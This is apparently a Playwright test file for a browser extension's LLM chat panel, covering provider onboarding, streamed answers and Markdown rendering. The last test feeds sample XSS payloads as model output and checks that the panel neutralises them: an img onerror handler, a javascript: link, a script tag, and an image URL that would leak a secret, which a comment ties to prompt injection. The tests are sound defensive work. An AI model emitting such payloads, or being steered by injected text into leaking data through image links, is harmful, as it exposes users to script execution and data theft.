import {
  addFakeProvider,
  addProvider,
  assistantMessages,
  chatRequests,
  expect,
  openPanel,
  sendChat,
  test,
} from './fixtures';

test('OpenAI-compatible: added through the onboarding options.html shows a new user, the answer streams in progressively', async ({
  context,
  extensionId,
  llm,
  extPage,
}) => {
  llm.models = ['fake-chat-1', 'fake-chat-2'];
  // Add the provider the way a new user does: options.html is the onboarding; server, test, pick a model, done.
  await extPage.getByRole('radio', { name: /Other OpenAI-compatible/ }).check();
  await extPage.getByRole('button', { name: 'Continue' }).click();
  await extPage.getByLabel('Server address').fill(llm.openaiBaseUrl);
  await extPage.getByRole('button', { name: 'Test connection' }).click();
  await expect(extPage.getByRole('status')).toHaveText(/: 2 models available\.$/);
  await extPage.getByLabel('Model').selectOption('fake-chat-2');
  await extPage.getByRole('button', { name: 'Done' }).click();
  await expect(extPage.getByRole('heading', { name: 'Tabwise is ready' })).toBeVisible();
  // All settings now opens on Models, listing it.
  await extPage.getByRole('link', { name: 'All settings' }).click();
  await expect(extPage).toHaveURL(/options\.html#models$/);
  const host = new URL(llm.openaiBaseUrl).host;
  await expect(extPage.locator(`li[data-provider="${host}"]`)).toContainText('fake-chat-2');

  const words = 'The quick brown fox jumps over the lazy dog and keeps on running far away'.split(' ');
  llm.enqueue({ text: words.map((w) => `${w} `), chunkDelayMs: 120 });
  const panel = await openPanel(context, extensionId);
  await sendChat(panel, 'Tell me about the fox');
  await expect(panel.locator('.message.user')).toHaveText('Tell me about the fox');
  const answer = assistantMessages(panel).last();
  // An intermediate state: some words are shown but not yet the last one.
  await expect(answer).toContainText('quick brown');
  await expect(answer).not.toContainText('far away');
  await expect(answer.locator('.markdown')).toHaveText(words.join(' ').trim());
  await expect(answer).toHaveAttribute('data-status', 'complete');

  const req = chatRequests(llm, '/v1/chat/completions')[0]!;
  expect(req.body).toMatchObject({ model: 'fake-chat-2', stream: true, stream_options: { include_usage: true } });
  expect((req.body as { messages: { role: string; content: string }[] }).messages.at(-1)).toEqual({
    role: 'user',
    content: 'Tell me about the fox',
  });
});

test('Anthropic: the answer streams through the Messages wire format and renders Markdown', async ({
  context,
  extensionId,
  llm,
  extPage,
}) => {
  await addProvider(extPage, {
    kind: 'anthropic',
    name: 'Claude (fake)',
    baseUrl: llm.anthropicBaseUrl,
    model: 'claude-test',
    apiKey: 'sk-ant-test-1234',
  });
  llm.enqueue({
    text: ['# Title\n\n', 'Some **bold** ', 'text and `code`.\n\n', '```js\nconst a = 1;\n```\n'],
    chunkDelayMs: 200,
  });
  const panel = await openPanel(context, extensionId);
  await sendChat(panel, 'Format something');
  const answer = assistantMessages(panel).last();
  await expect(answer.locator('h1')).toHaveText('Title');
  await expect(answer.locator('pre code')).toHaveCount(0);
  await expect(answer.locator('strong')).toHaveText('bold');
  await expect(answer.locator('pre code')).toHaveText('const a = 1;');
  await expect(answer.getByRole('button', { name: 'Copy' })).toBeVisible();
  const req = chatRequests(llm, '/v1/messages')[0]!;
  // @anthropic-ai/sdk 1.x sends the key as a Bearer token (older versions used x-api-key); accept either.
  expect(req.headers['x-api-key'] ?? req.headers.authorization?.replace(/^Bearer /, '')).toBe('sk-ant-test-1234');
  expect(req.headers['anthropic-version']).toBeTruthy();
  expect(req.body).toMatchObject({
    model: 'claude-test',
    stream: true,
    messages: [{ role: 'user', content: [{ type: 'text', text: 'Format something' }] }],
  });
});

test('Markdown from the model cannot run script or carry javascript: links', async ({
  context,
  extensionId,
  llm,
  extPage,
}) => {
  await addFakeProvider(extPage, llm, 'm');
  // The last chunk is what a prompt injection would aim for: an image URL carrying data out.
  llm.enqueue({
    text: [
      '<img src=x onerror="window.__pwned=1">',
      '[click](javascript:window.__pwned=2) ',
      '<script>window.__pwned=3</script> done',
      `\n\n![chart](${llm.url}/leak?q=SECRET)`,
    ],
  });
  const panel = await openPanel(context, extensionId);
  await sendChat(panel, 'hi');
  const answer = assistantMessages(panel).last();
  await expect(answer).toHaveAttribute('data-status', 'complete');
  expect(await answer.locator('[onerror]').count()).toBe(0);
  expect(await answer.locator('script').count()).toBe(0);
  expect(await answer.locator('a:not(.image-link)').getAttribute('href')).toBeNull();
  expect(await panel.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
  // The image is a link the user may follow, not a request made on their behalf.
  await expect(answer.locator('a.image-link')).toHaveText('[image: chart]');
  await panel.waitForTimeout(300);
  expect(llm.requests.some((r) => r.path === '/leak')).toBe(false);
});
